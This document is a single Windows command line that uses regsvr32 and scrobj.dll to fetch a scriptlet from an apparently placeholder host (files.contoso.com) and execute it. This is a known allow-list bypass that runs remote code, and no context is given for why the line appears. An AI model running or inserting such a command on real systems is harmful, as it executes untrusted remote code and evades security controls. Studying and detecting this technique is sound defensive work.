regsvr32 /s /n /u /i:http://files.contoso.com/setup.sct scrobj.dll
